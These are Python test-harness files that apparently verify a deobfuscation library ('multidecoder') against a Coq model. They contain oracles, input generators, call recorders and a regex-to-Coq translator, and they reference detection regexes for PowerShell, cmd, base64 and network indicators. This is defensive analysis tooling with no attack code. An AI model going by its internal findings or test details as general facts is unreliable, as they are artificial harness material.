            decoded = bytes(c.value).lower() != text[a:b].lower()
            if decoded and not has_kids:
                fresh = [c.type, bytes(c.value), "", 0, len(c.value), []]
                o2, _, _ = impl_scan_node(table, remaining - 1, fresh)
                if o2[0] != "ok" or o2[1][5] != node_val(c)[5]:
                    msgs.append(f"decoded node {c.type!r} {bytes(c.value)!r}: children differ from a scan of its value with depth {remaining - 1}")
                walk(c, remaining - 1, bytes(c.value))
            elif not decoded and not has_kids:
                walk(c, remaining, call_text)  # context: same search pass
    if depth > 0:
        walk(res, depth, bytes(res.value))
    return msgs


ORACLES = {"C03": oracle_C03, "C04": oracle_C04, "C05": oracle_C05, "C06": oracle_C06, "C07": oracle_C07, "C08": oracle_C08}


# ------------------------------------------------------------------ generators
TEXT = b"abcde"


def hit(kind, a, b, text, idx=0):
    raw = text[a:b]
    if kind == "ctx":
        return ["c%d" % idx, raw, "", a, b, []]
    if kind == "case":
        return ["k%d" % idx, raw.swapcase(), "", a, b, []]
    if kind == "dec":
        return ["d%d" % idx, b"XYZ"[: max(1, (b - a) % 4)] + b"q", "obf", a, b, []]
    if kind == "dec2":
        return ["d%d" % idx, b"xyzzy", "obf", a, b, []]
    if kind == "rot":       # decoded, same length as the covered text, no obfuscation label
        return ["r%d" % idx, bytes((c + 1) % 256 or 1 for c in raw), "", a, b, []]
    if kind == "prefix":    # decoded value is a proper prefix of the covered text (trimmed padding)
        return ["p%d" % idx, raw[:-1] if len(raw) > 1 else b"Z", "trim", a, b, []]
    if kind == "kids":
        return ["u%d" % idx, raw, "", a, b, [["part", raw[:1], "", 0, 1, []]]]
    if kind == "restate":
        return ["", text, "", 0, len(text), []]
    if kind == "empty":
        return ["e", b"", "", a, b, []]
    raise ValueError(kind)


def spans(n):
    return [(a, b) for a in range(n) for b in range(a + 1, n + 1)]


def exhaustive_tables(text, max_hits, kinds=("ctx", "case", "dec", "kids", "rot", "prefix")):
    atoms = [(k, a, b) for (a, b) in spans(len(text)) for k in kinds]
    inner = (b"xyzzy", [hit("ctx", 1, 4, b"xyzzy", 7), hit("dec", 2, 3, b"xyzzy", 8)])
    for n in range(0, max_hits + 1):
        for combo in itertools.product(atoms, repeat=n):
            hits = [hit(k, a, b, text, i) for i, (k, a, b) in enumerate(combo)]
            yield [(text, hits), inner]


def random_table(rng, malformed=False):
    n = rng.randint(4, 9)
    text = bytes(rng.choice(b"abcdeABC") for _ in range(n))
    kinds = ["ctx", "ctx", "ctx", "case", "dec", "dec2", "kids", "restate", "rot", "prefix"]
    if rng.random() < 0.1:
        kinds.append("empty")
    table = []
    texts = [text, b"xyzzy", b"XYZq", b"Xq", b"XYq", b"q", bytes((c + 1) % 256 or 1 for c in text[1:4]), text[1:3]]
    for t in texts[: rng.randint(1, 4)]:
        hits = []
        for i in range(rng.randint(0, 8)):
            a = rng.randrange(len(t))
            b = rng.randint(a + 1, len(t))
            if rng.random() < 0.5 and hits:
                # bias: nest inside / tie with / straddle an earlier hit
                pa, pb = hits[rng.randrange(len(hits))][3:5]
                mode = rng.random()
                if mode < 0.4 and pb - pa >= 1:
                    a = rng.randint(pa, pb - 1)
                    b = rng.randint(a + 1, pb)
                elif mode < 0.6:
                    a, b = pa, pb
                elif pb < len(t):
                    a = rng.randint(pa, pb - 1) if pb > pa else pa
                    b = rng.randint(pb, len(t))
            k = rng.choice(kinds)
            if k == "restate" and rng.random() < 0.5 and hits:
                # restate an enclosing context
                ph = hits[rng.randrange(len(hits))]
                h = [ph[0], ph[1], "", ph[3], ph[4], []]
            else:
                h = hit(k, a, b, t, i)
            if malformed and rng.random() < 0.3:
                m = rng.random()
                if m < 0.4:
                    h[4] = len(t) + rng.randint(1, 3)
                elif m < 0.7:
                    h[3], h[4] = h[4], h[3]
                else:
                    h[3] = -rng.randint(1, 3)
            hits.append(h)
        table.append((t, hits))
    return text, table


def run_engine(ctx, oracle_ids, quick_random=6000, thorough_random=80000, exhaustive_quick=2, exhaustive_thorough=3):
    """correspondence + oracles for the engine-level properties"""
    oracles = [ORACLES[o] for o in oracle_ids]
    cases = []
    mh = ctx.budget(exhaustive_quick, exhaustive_thorough)
    text = b"abcd"
    for tbl in exhaustive_tables(text, mh):
        for depth in ((1, 2) if mh < 3 else (2,)):
            cases.append((tbl, depth, ["", text, "", 0, len(text), []]))
    ctx.count("exhaustive_tables", len(cases))
    for _ in range(ctx.budget(quick_random, thorough_random)):
        text, tbl = random_table(ctx.rng)
        depth = ctx.rng.choice([-1, 0, 1, 1, 2, 2, 3, 4])
        cases.append((tbl, depth, ["", text, "", 0, len(text), []]))
    # registries whose output is always decodable again: termination is by the depth budget alone
    for depth in list(range(-3, 17)) + [-3, 0, 11, 12, 13, 16, 25]:
        chain = [(b"xyzzy", [hit("dec2", 1, 3, b"xyzzy", 0), hit("ctx", 0, 4, b"xyzzy", 1), hit("ctx", 3, 5, b"xyzzy", 2)])]
        cases.append((chain, depth, ["", b"xyzzy", "", 0, 5, []]))
        chain2 = [(b"xyzzy", [hit("ctx", 0, 5, b"xyzzy", 1), hit("dec2", 2, 4, b"xyzzy", 0)])]
        cases.append((chain2, depth, ["t", b"xyzzy", "", 0, 5, []]))
    for _ in range(ctx.budget(300, 3000)):
        text, tbl = random_table(ctx.rng, malformed=True)
        depth = ctx.rng.choice([1, 2, 3])
        cases.append((tbl, depth, ["", text, "", 0, len(text), []]))
    # scan_node on nodes that already have children
    for _ in range(ctx.budget(300, 3000)):
        text, tbl = random_table(ctx.rng)
        kids = [["pre", text[:2], "", 0, 2, []], ["pre2", b"xyzzy", "o", 1, 3, []]]
        cases.append((tbl, ctx.rng.choice([1, 2, 3]), ["t", text, "", 0, len(text), kids]))
    run_cases(ctx, cases, oracles)
    # the same engine comparison + oracles on tables recorded from the shipped registry
    import corpus_gen
    ins = [(d, ctx.rng.choice([10, 10, 1, 2, 3])) for d in corpus_gen.gen_inputs(ctx.rng, ctx.budget(120, 1500)) + [corpus_gen.plain_nested(ctx.rng) for _ in range(ctx.budget(30, 300))] if len(d) < 1500]
    ins += list(getattr(ctx, "diff_inputs", []))
    run_cases(ctx, recorded_cases(ctx, ins), oracles)


def recorded_cases(ctx, inputs):
    """registry tables RECORDED from scans with the shipped registry: for every value the scan searched, the hits every shipped decoder reported on it (registry order).
    The engine (implementation and model) is then run on that table: real hit shapes (decoder-supplied children, labels, case changes, ties) instead of synthetic ones."""
    from multidecoder.multidecoder import Multidecoder
    from scan_common import RecordingRegistry, ScanTimeout, with_timeout
    reg = RecordingRegistry()
    md = Multidecoder(decoders=reg.decoders)
    cases = []
    for data, depth in inputs:
        if depth is None:
            depth = 10
        del reg.calls[:]
        try:
            with_timeout(lambda: md.scan(data, depth), 20)
        except ScanTimeout:
            ctx.count("recorded:timeout")
            continue
        except Exception:  # noqa: BLE001   (C01's business)
            ctx.count("recorded:raise")
            continue
        tbl, order = {}, []
        seen_call = set()
        for name, value, hits in reg.calls:
            if (name, value) in seen_call:      # the same value searched again: keep the first answer of each decoder
                continue
            seen_call.add((name, value))
            if value not in tbl:
                tbl[value] = []
                order.append(value)
            tbl[value] += hits
        table = [(v, tbl[v]) for v in order if tbl[v]]
        if len(table) > 60 or sum(len(h) for _, h in table) > 600:
            ctx.count("recorded:too_large")
            continue
        if not table_wf(table):
            ctx.count("recorded:not_wf")        # inverted / out-of-bounds reported spans (known finding F6): C03's whole-scan part reports them
            continue
        ctx.count("recorded:wf")
        cases.append((table, depth, ["", data, "", 0, len(data), []]))
    return cases


def run_cases(ctx, cases, oracles):
    args = [[[[k, hs] for k, hs in tbl], depth, node] for tbl, depth, node in cases]
    model_out = ctx.runner.run([("scan_node", a) for a in args])
    import hashlib
    from common import enc, jsonable
    ctx.probe_counts["scan_node"] = ctx.probe_counts.get("scan_node", 0) + len(args)
    for (tbl, depth, node), a, m in zip(cases, args, model_out):
        wf = table_wf(tbl)
        rootlike = node[0] == "" and node[2] == "" and node[3] == 0 and node[4] == len(node[1]) and not node[5]
        ctx._rootlike = getattr(ctx, "_rootlike", 0) + (1 if rootlike else 0)
        if rootlike and (ctx._rootlike % 2 == 0 or depth > 10):
            # scan(data, k) is scan_node on the root node: the public entry point must not treat the budget differently
            out, rec, res = impl_scan(tbl, depth, node[1], timeout=0.05 if not wf else 5)
            ctx.count("via_scan")
        else:
            out, rec, res = impl_scan_node(tbl, depth, node, timeout=0.05 if not wf else 5)
        ctx.evals += 1
        key = hashlib.sha256(enc(a).encode()).digest()[:10]
        ctx.distinct.add(key)
        nkids = len(out[1][5]) if out[0] == "ok" else -1
        if out[0] == "ok" and any(c[5] for c in out[1][5]):
            ctx.nontrivial.add(key)   # non-trivial: the tree has depth >= 2 below the scanned node
        ctx.count("scan_node:%s" % ("wf" if wf else "malformed") + ":" + out[0])
        if len(ctx.samples) < 4 and nkids >= 2:
            ctx.sample({"probe": "scan_node", "table": tbl, "depth": depth, "node": node, "impl": out})
        if canon(out) != m:
            if len(ctx.disagreements) < 50:
                ctx.disagreements.append({"probe": "scan_node", "input": jsonable(a), "model": jsonable(m), "impl": jsonable(out)})
        for orc in oracles:
            for msg in orc(tbl, depth, node, out, rec, res):
                ctx.violation("scan_node", a, msg, got=out)
                break


def replay_engine(ctx, data, oracle_ids):
    v = data.get("violation")
    if not v:
        print("replay file names no concrete input:", data.get("broken"))
        return 1
    a = v["input"]
    tbl = [(k, hs) for k, hs in a[0]]
    out, rec, res = impl_scan_node(tbl, a[1], a[2])
    print("table:", tbl, "depth:", a[1], "node:", a[2])
    print("implementation:", out)
    print("model:", ctx.runner.run([("scan_node", a)])[0])
    bad = 0
    for o in oracle_ids:
        for msg in ORACLES[o](tbl, a[1], a[2], out, rec, res):
            print("oracle", o, ":", msg)
            bad = 1
    if not bad:
        print("property holds on this input")
    return bad
