import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import coqbuild, translate
from common import log
print("translate:", translate.generate())
rc, out, dt = coqbuild.make()
print(out[-3000:])
print(f"coq build rc={rc} in {dt:.1f}s")
if rc != 0:
    sys.exit(1)
ok, out = coqbuild.build_runner()
print("runner:", ok, out[-2000:])
sys.exit(0 if ok else 1)
