import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import coqbuild, translate
from common import log
print("translate:", translate.generate())
rc, out, dt = coqbuild.make(targets=["-k"])
print(out[-3000:])
print(f"coq build rc={rc} in {dt:.1f}s (a failing proof file does not fail the setup: each check rebuilds and reports its own obligations)")
ok, out = coqbuild.build_runner()
print("runner:", ok, out[-2000:])
sys.exit(0 if ok else 1)
