"""Per-decoder correspondence: each @decoder function of the shipped registry vs its model (Model/Dec/*.v run on the
model's own regex matcher), on inputs generated for that decoder + the shared corpus; results must be identical
(nodes incl. decoder-supplied children, or the exception class)."""
from __future__ import annotations

import corpus_gen
import regex_probe
import gen_regexes
from common import impl_call, node_val
from scan_common import ScanTimeout, with_timeout

# decoder -> names of the generated regexes whose sampled words make good inputs
DECODER_REGEX = {
    "find_xml_hex": ["xml_XML_ESCAPE_RE"], "find_chr": ["chr_CHR_RE"], "find_unescape": ["javascript_UNESCAPE_RE"], "find_utf16": ["codec_UTF16_RE"],
    "find_concat": ["concat_CONCAT_RE"], "find_reverse": ["reverse_REVERSE_RE"], "find_strreverse": ["vba_STRREVERSE_RE"],
    "find_replace": ["replace_REPLACE_RE"], "find_powershell_replace": ["replace_POWERSHELL_REPLACE_RE"], "find_vba_replace": ["replace_VBA_REPLACE_RE"],
    "find_js_regex_replace": ["replace_JS_REGEX_REPLACE_RE"], "find_createobject": ["vba_CREATE_OBJECT_RE"],
    "find_cmd_strings": ["shell_CMD_RE"], "find_powershell_strings": ["shell_POWERSHELL_INDICATOR_RE", "shell_ENC_RE"],
    "find_atob": ["base64_ATOB_RE"], "find_base64": ["base64_BASE64_RE"], "find_Base64Decode": ["base64_BASE64DECODE_RE"], "find_FromBase64String": ["base64_FROMB64STRING_RE"],
    "find_hex": ["hex_HEX_RE"], "find_FromHexString": ["hex_FROMHEXSTRING_RE"], "find_powershell_bytes": ["powershell_POWERSHELL_BYTES_RE"],
    "find_domains": ["network_DOMAIN_RE"], "find_emails": ["network_EMAIL_RE"], "find_ips": ["network_IP_RE"], "find_urls": ["network_URL_RE"],
    "find_path": ["path_PATH_RE"], "find_windows_path": ["path_WINDOWS_PATH_RE"], "find_executable_name": ["filename_EXECUTABLE_RE"], "find_library": ["filename_LIBRARY_RE"],
    "find_pe_files": ["pe_file_find_pe_files_0"],
}


def registry_functions():
    from multidecoder.registry import get_analyzers
    return {f.__name__: f for f in get_analyzers()}


def regex_inputs(rng, names, n):
    pats = {name: pat for name, pat, _ in gen_regexes.collect()}
    out = []
    for nm in names:
        if nm not in pats:
            continue
        r, ng = gen_regexes.translate(pats[nm], nm)
        big = len(regex_probe.sample(r, rng)) > 1000
        out += regex_probe.subjects(r, rng, 3 if big else n, maxlen=8000 if big else 300)
    return out


def boundary_inputs(rng, seeds):
    """every truncation of the last 70 bytes, the text twice (same text found twice in one call), at offset 0 / at the very end, one junk byte glued on each side"""
    out = []
    for w in seeds:
        for k in range(max(0, len(w) - 70), len(w)):
            out.append(w[:k])
        out.append(w + b" " + w)
        out.append(w + w)
        out.append(w.strip())
        out.append(b"a" + w + b"a")
        out.append(b"\x00" + w + b"\xff")
    return out


class ToolRecorder:
    """records the calls to the two external tools (pefile-based pe_size, xortool) made while a function runs, so that the
    model can be given the same answers (they are oracles of the model, not modelled code)"""

    def __enter__(self):
        import multidecoder.decoders.pe_file as pe
        import multidecoder.decoders.powershell as ps
        self.pe, self.ps = pe, ps
        self.pe_tbl, self.xor_tbl = {}, {}
        self._pe_size, self._xortool = pe.pe_size, ps.xortool

        def pe_size(data):
            r = self._pe_size(data)
            self.pe_tbl[bytes(data)] = r
            return r

        def xortool(binary, *a, **k):
            r = self._xortool(binary, *a, **k)
            self.xor_tbl[bytes(binary)] = [bytes(x) for x in r]
            return r
        pe.pe_size, ps.xortool = pe_size, xortool
        return self

    def __exit__(self, *a):
        self.pe.pe_size, self.ps.xortool = self._pe_size, self._xortool

    def tables(self):
        return [[k, v] for k, v in self.pe_tbl.items()], [[k, v] for k, v in self.xor_tbl.items()]


def drift_values(ctx):
    """inputs on which the drift-directed search saw the current tree differ from the baseline, and every value the shipped decoders are handed while scanning them"""
    if not getattr(ctx, "diff_inputs", None):
        return []
    if getattr(ctx, "_drift_values", None) is None:
        from multidecoder.multidecoder import Multidecoder
        from scan_common import RecordingRegistry
        reg = RecordingRegistry()
        md = Multidecoder(decoders=reg.decoders)
        vals = []
        for data, depth in ctx.diff_inputs[:40]:
            vals.append(data)
            try:
                with_timeout(lambda: md.scan(data, 10 if depth is None else depth), 20)
            except Exception:  # noqa: BLE001
                pass
        seen = set(vals)
        for _n, v, _h in reg.calls:
            if v not in seen and len(seen) < 200:
                seen.add(v)
                vals.append(v)
        ctx._drift_values = vals
        ctx.count("drift_values", len(vals))
    return list(ctx._drift_values)


def run_decoder_probe(ctx, decoders, extra_inputs=(), n_regex=60, n_corpus=150, oracle=None, kinds=("indicator", "shell", "stack", "splice")):
    fns = registry_functions()
    for dn in decoders:
        if dn not in fns:
            ctx.violation("decoder", [dn], f"decoder {dn} is not in the registry any more")
            continue
        fn = fns[dn]
        inputs = list(extra_inputs)
        inputs += regex_inputs(ctx.rng, DECODER_REGEX.get(dn, []), ctx.budget(n_regex, n_regex * 10))
        inputs += corpus_gen.gen_inputs(ctx.rng, ctx.budget(n_corpus, n_corpus * 10), kinds)
        inputs += boundary_inputs(ctx.rng, [d for d in inputs if 0 < len(d) < 400][: ctx.budget(6, 40)])
        inputs += drift_values(ctx)
        inputs = [d for d in inputs if len(d) < 9000]
        args, outs = [], {}
        for d in inputs:
            with ToolRecorder() as rec:
                try:
                    out = with_timeout(lambda: impl_call(lambda: [node_val(h) for h in fn(d)]), 20)
                except ScanTimeout:
                    out = ["hang"]
            pe_t, xor_t = rec.tables()
            a = [dn, d, pe_t, xor_t]
            args.append(a)
            outs[id(a)] = out

        def orc(arg, out, dn=dn):
            if oracle is None:
                return None
            return oracle(dn, arg[1], out)
        def impl_again(a, fn=fn, seen=set()):
            if id(a) not in seen:           # first call: the answer recorded together with the tool tables
                seen.add(id(a))
                return outs[id(a)]
            try:
                fresh = bytes(bytearray(a[1]))      # a NEW bytes object with the same content (results must not depend on object identity)
                return with_timeout(lambda: impl_call(lambda: [node_val(h) for h in fn(fresh)]), 20)
            except ScanTimeout:
                return ["hang"]
        ctx.compare("decoder", args, impl_again,
                    nontrivial=lambda a, o: o[0] == "ok" and len(o[1]) > 0, oracle=orc,
                    classify=lambda a, o, dn=dn: "%s:%s" % (dn, (min(len(o[1]), 2) if o[0] == "ok" else o[0] + ":" + str(o[1:]))))
