"""Whole-scan helpers on the implementation side: the default registry with every decoder wrapped so that each call
(decoder name, searched value, reported hits with their original spans) is recorded; timeouts; view totality."""
from __future__ import annotations

import copy
import functools
import re as stdre
import signal


class ScanTimeout(Exception):
    pass


def with_timeout(fn, secs):
    def h(*a):
        raise ScanTimeout()
    old = signal.signal(signal.SIGALRM, h)
    signal.setitimer(signal.ITIMER_REAL, secs)
    try:
        return fn()
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


def snapshot(n):
    return [n.type, bytes(n.value), n.obfuscation, n.start, n.end, [snapshot(c) for c in n.children]]


class RecordingRegistry:
    def __init__(self):
        from multidecoder.registry import build_registry
        self.calls = []   # (decoder name, value, [hit snapshots])
        self.decoders = [self._wrap(d) for d in build_registry()]

    def _name(self, d):
        if isinstance(d, functools.partial):
            return "keyword:" + d.args[0]
        return d.__name__

    def _wrap(self, d):
        name = self._name(d)

        def dec(value):
            hits = d(value)
            self.calls.append((name, bytes(value), [snapshot(h) for h in hits]))
            return hits
        dec.__name__ = name
        return dec


def kids_in_bounds(h, path="hit"):
    msgs = []
    for i, k in enumerate(h[5]):
        if not (0 <= k[3] <= k[4] <= len(h[1])):
            msgs.append((f"{path}.{i}", k, h))
        msgs += kids_in_bounds(k, f"{path}.{i}")
    return msgs


# ---- classification of known findings (call site + input class), shared by the properties they affect
def is_f6(name, value, hit):
    """find_powershell_strings, no ENC argument and no quote / FOR-loop context before the token: end = len(data) - start"""
    if name != "find_powershell_strings" or hit[0] != "shell.powershell" or hit[2] == "powershell.base64":
        return False
    start, end = hit[3], hit[4]
    if end != len(value) - start:
        return False
    return stdre.search(rb'(\'\(|[\'"])', value[start::-1]) is None


def is_f19(name, value, hit, kid):
    """powershell.base64 child appended to a caret-escaped cmd node with span (0, len(child value))"""
    return (name == "find_powershell_strings" and hit[0] == "shell.cmd" and kid[0] == "shell.powershell" and kid[2] == "powershell.base64"
            and kid[3] == 0 and kid[4] == len(kid[1]) and kid[4] > len(hit[1]))


def check_reported_hits(reg):
    """C03 at the source: every hit a shipped decoder reports is in bounds of the value it was given (0 <= start <= end <= len),
    and so is decoder-supplied sub-structure, recursively.  Returns [(class, message, value)]"""
    out = []
    for name, value, hits in reg.calls:
        for h in hits:
            if not (0 <= h[3] <= h[4] <= len(value)):
                cls = "F6" if is_f6(name, value, h) else None
                out.append((cls, f"{name} reported {h[0]} span ({h[3]},{h[4]}) on a value of length {len(value)}", value))
            for path, k, par in kids_in_bounds(h):
                cls = "F19" if is_f19(name, value, par, k) else None
                out.append((cls, f"{name}: supplied child {k[0]} span ({k[3]},{k[4]}) outside its parent's value (len {len(par[1])})", value))
    return out


def views_total(tree):
    """flattening, iteration, summary lines, JSON encoding complete without error"""
    from multidecoder.json_conversion import tree_to_json
    from multidecoder.query import string_summary
    msgs = []
    for name, fn in (("flatten", lambda: tree.flatten()), ("iteration", lambda: list(tree)), ("string_summary", lambda: string_summary(tree)),
                     ("tree_to_json", lambda: tree_to_json(tree))):
        try:
            with_timeout(fn, 20)
        except ScanTimeout:
            msgs.append(f"{name} did not terminate")
        except Exception as ex:  # noqa: BLE001
            msgs.append(f"{name} raised {type(ex).__name__}: {ex}")
    return msgs
