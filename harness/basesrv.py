"""Baseline behaviour server: run with PYTHONPATH=/verif/baseline_src (the snapshot of src/multidecoder the model was written against).
stdin:  `<hex> <depth|-> ` per line, or `fresh`;  stdout: one signature (driftsig.Session.sig) per line."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import driftsig  # noqa: E402


def main():
    import multidecoder
    assert "baseline_src" in multidecoder.__file__, multidecoder.__file__
    s = driftsig.Session()
    out = sys.stdout
    for line in sys.stdin:
        line = line.strip()
        if not line:
            continue
        if line == "fresh":
            s.fresh()
            out.write("ok\n")
        else:
            h, d = line.split()
            out.write(s.sig(bytes.fromhex(h) if h != "-" else b"", None if d == "-" else int(d)) + "\n")
        out.flush()


main()
