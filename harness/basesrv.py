"""Baseline behaviour server: run with PYTHONPATH=/verif/baseline_src (the snapshot of src/multidecoder the model was written against).
stdin:  `<hex> <depth|-> ` per line, or `fresh`;  stdout: one signature (driftsig.Session.sig) per line."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import driftsig  # noqa: E402


def dump_patterns():
    """`python basesrv.py --patterns`: the baseline's regular expressions as JSON {name: hex}"""
    import json
    import gen_regexes
    print(json.dumps({name: pat.hex() for name, pat, _ in gen_regexes.collect()}))


def main():
    if "--patterns" in sys.argv:
        dump_patterns()
        return
    import multidecoder
    assert "baseline_src" in multidecoder.__file__, multidecoder.__file__
    s = driftsig.Session()
    out = sys.stdout
    for line in sys.stdin:
        line = line.strip()
        if not line:
            continue
        if line == "fresh":
            s.fresh()
            out.write("ok\n")
        else:
            h, d = line.split()
            out.write(s.sig(bytes.fromhex(h) if h != "-" else b"", None if d == "-" else int(d)) + "\n")
        out.flush()


main()
