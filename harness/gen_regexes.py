"""Generated/Regexes.v : every regular expression the code uses, parsed with CPython's sre parser and emitted
as a term of the Coq regex AST (Regex/Syntax.v).  Fail closed: any construct outside the supported fragment raises.

Patterns = runtime values of the module-level *_RE constants of every multidecoder module (most are built by
concatenation / slicing) + the inline pattern literals found by walking the ast for re.<fn>(<bytes literal>, ...)."""
from __future__ import annotations

import ast
import importlib
import inspect
import os
import pkgutil
import re as stdre
import re._constants as C
import re._parser as P

from common import SRC

MAXREPEAT = C.MAXREPEAT
ALL = (1 << 256) - 1

DIGIT = sum(1 << c for c in range(48, 58))
SPACE = sum(1 << c for c in (9, 10, 11, 12, 13, 32))
WORD = DIGIT | sum(1 << c for c in range(65, 91)) | sum(1 << c for c in range(97, 123)) | (1 << 95)
CATS = {
    C.CATEGORY_DIGIT: DIGIT, C.CATEGORY_NOT_DIGIT: ALL & ~DIGIT,
    C.CATEGORY_SPACE: SPACE, C.CATEGORY_NOT_SPACE: ALL & ~SPACE,
    C.CATEGORY_WORD: WORD, C.CATEGORY_NOT_WORD: ALL & ~WORD,
}


class Unsupported(Exception):
    pass


def fold(mask):
    """ASCII case folding of a positive set (bytes patterns under re.I)"""
    out = mask
    for c in range(65, 91):
        if mask >> c & 1:
            out |= 1 << (c + 32)
    for c in range(97, 123):
        if mask >> c & 1:
            out |= 1 << (c - 32)
    return out


class Tr:
    def __init__(self, icase, dotall):
        self.icase = icase
        self.dotall = dotall

    def cls(self, mask):
        return ("Cls", mask & ALL)

    def lit(self, c, negate=False):
        m = 1 << c
        if self.icase:
            m = fold(m)
        return self.cls(ALL & ~m if negate else m)

    def seq(self, items):
        items = [self.item(op, av) for op, av in items]
        if not items:
            return ("Eps",)
        r = items[-1]
        for x in reversed(items[:-1]):
            r = ("Seq", x, r)
        return r

    def item(self, op, av):
        if op is C.LITERAL:
            if av > 255:
                raise Unsupported("non-byte literal")
            return self.lit(av)
        if op is C.NOT_LITERAL:
            return self.lit(av, True)
        if op is C.ANY:
            return self.cls(ALL if self.dotall else ALL & ~(1 << 10))
        if op is C.IN:
            neg = False
            m = 0
            for o, a in av:
                if o is C.NEGATE:
                    neg = True
                elif o is C.LITERAL:
                    m |= 1 << a
                elif o is C.RANGE:
                    for c in range(a[0], a[1] + 1):
                        m |= 1 << c
                elif o is C.CATEGORY:
                    if a not in CATS:
                        raise Unsupported(f"category {a}")
                    m |= CATS[a]
                else:
                    raise Unsupported(f"class item {o}")
            if self.icase:
                m = fold(m)       # fold the positive set BEFORE complementing
            return self.cls(ALL & ~m if neg else m)
        if op is C.BRANCH:
            alts = [self.seq(list(a)) for a in av[1]]
            r = alts[-1]
            for x in reversed(alts[:-1]):
                r = ("Alt", x, r)
            return r
        if op is C.SUBPATTERN:
            group, add, dele, p = av
            if add or dele:
                raise Unsupported("scoped flags")
            body = self.seq(list(p))
            return ("Grp", group, body) if group is not None else body
        if op is C.MAX_REPEAT:
            lo, hi, p = av
            body = self.seq(list(p))
            return ("Rep", lo, None if hi == MAXREPEAT else hi, body)
        if op is C.AT:
            if av is C.AT_BOUNDARY:
                return ("WordB",)
            if av is C.AT_BEGINNING:
                return ("Bol",)
            if av is C.AT_END:
                return ("Eol",)
            raise Unsupported(f"anchor {av}")
        if op is C.ASSERT_NOT:
            direction, p = av
            return ("NLook", direction < 0, self.seq(list(p)))
        raise Unsupported(f"construct {op}")


def nullable(r):
    t = r[0]
    if t in ("Eps", "WordB", "Bol", "Eol", "NLook"):
        return True
    if t == "Cls":
        return False
    if t == "Seq":
        return nullable(r[1]) and nullable(r[2])
    if t == "Alt":
        return nullable(r[1]) or nullable(r[2])
    if t == "Rep":
        return r[1] == 0 or nullable(r[3])
    if t == "Grp":
        return nullable(r[2])
    raise ValueError(t)


def width(r):
    t = r[0]
    if t in ("Eps", "WordB", "Bol", "Eol", "NLook"):
        return 0
    if t == "Cls":
        return 1
    if t == "Seq":
        a, b = width(r[1]), width(r[2])
        return None if a is None or b is None else a + b
    if t == "Alt":
        a, b = width(r[1]), width(r[2])
        return a if a is not None and a == b else None
    if t == "Rep":
        w = width(r[3])
        return r[1] * w if w is not None and r[2] == r[1] else None
    if t == "Grp":
        return width(r[2])
    return None


def check(r, name):
    t = r[0]
    if t == "Rep":
        if nullable(r[3]):
            raise Unsupported(f"{name}: repeated body is nullable")
        if r[1] > 3000 or (r[2] or 0) > 3000:
            raise Unsupported(f"{name}: repeat count too large for nat")
        check(r[3], name)
    elif t in ("Seq", "Alt"):
        check(r[1], name)
        check(r[2], name)
    elif t == "Grp":
        check(r[2], name)
    elif t == "NLook":
        if r[1] and width(r[2]) is None:
            raise Unsupported(f"{name}: look-behind of variable width")
        check(r[2], name)


def emit(r):
    t = r[0]
    if t in ("Eps", "WordB", "Bol", "Eol"):
        return t
    if t == "Cls":
        return f"(Cls {r[1]}%N)"
    if t in ("Seq", "Alt"):
        return f"({t} {emit(r[1])} {emit(r[2])})"
    if t == "Rep":
        hi = "None" if r[2] is None else f"(Some {r[2]}%nat)"
        return f"(Rep {r[1]}%nat {hi} {emit(r[3])})"
    if t == "Grp":
        return f"(Grp {r[1]}%nat {emit(r[2])})"
    if t == "NLook":
        return f"(NLook {'true' if r[1] else 'false'} {emit(r[2])})"
    raise ValueError(t)


def translate(pattern: bytes, name: str):
    if pattern.startswith(b"(?r)"):
        raise Unsupported("reverse flag")
    p = P.parse(pattern)
    flags = p.state.flags
    bad = flags & ~(stdre.I | stdre.S)
    if bad:
        raise Unsupported(f"{name}: flags {bad}")
    tr = Tr(bool(flags & stdre.I), bool(flags & stdre.S))
    r = tr.seq(list(p))
    check(r, name)
    return r, p.state.groups - 1


REGEX_FUNCS = {"finditer", "search", "match", "fullmatch", "sub", "findall", "split"}
HAND_MODELLED = {b"(?r):\\d*"}     # network.py parse_authority: modelled by hand (Model/Dec), pinned by its probe


SKIPPED = []


def collect(strict=False):
    """[(name, pattern bytes, where)].  strict (the translator): an inline pattern that cannot be evaluated statically raises (fail closed);
    otherwise (generators, probes) it is skipped and listed in SKIPPED, so that the remaining probes still run."""
    import multidecoder
    import multidecoder.decoders
    mods = ["multidecoder." + m.name for m in pkgutil.iter_modules(multidecoder.__path__) if not m.ispkg]
    mods += ["multidecoder.decoders." + m.name for m in pkgutil.iter_modules(multidecoder.decoders.__path__)]
    out = []
    for mn in sorted(mods):
        if mn.endswith("__main__") or mn.endswith("_version"):
            continue
        mod = importlib.import_module(mn)
        short = mn.split(".")[-1]
        for k, v in sorted(vars(mod).items()):
            if isinstance(v, bytes) and (k.endswith("_RE") or k.endswith("_ESCAPES")) and getattr(mod, "__name__") == mn:
                # only constants defined (assigned) in this module
                src = inspect.getsource(mod)
                if stdre.search(r"(?m)^%s\s*=" % stdre.escape(k), src):
                    out.append((f"{short}_{k}", v, f"{short}.{k}"))
        tree = ast.parse(inspect.getsource(mod))
        for fn in [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]:
            k = 0
            for call in [n for n in ast.walk(fn) if isinstance(n, ast.Call)]:
                f = call.func
                if isinstance(f, ast.Attribute) and f.attr in REGEX_FUNCS and isinstance(f.value, ast.Name) and f.value.id == "re":
                    a0 = call.args[0] if call.args else None
                    if isinstance(a0, ast.Constant) and isinstance(a0.value, bytes):
                        out.append((f"{short}_{fn.name}_{k}", a0.value, f"{short}.{fn.name} inline #{k}"))
                        k += 1
                    elif isinstance(a0, ast.BinOp):
                        # pattern built inline from constants: evaluate in the module namespace
                        try:
                            val = eval(compile(ast.Expression(a0), "<pattern>", "eval"), vars(mod))
                        except Exception as ex:  # noqa: BLE001
                            if strict:
                                raise Unsupported(f"{short}.{fn.name}: cannot evaluate inline pattern: {ex}")
                            SKIPPED.append(f"{short}.{fn.name}")
                            continue
                        out.append((f"{short}_{fn.name}_{k}", val, f"{short}.{fn.name} inline #{k} (computed)"))
                        k += 1
    return out


def generate():
    pats = collect(strict=True)
    lines = ["(* GENERATED by harness/gen_regexes.py from /repo/src - do not edit.",
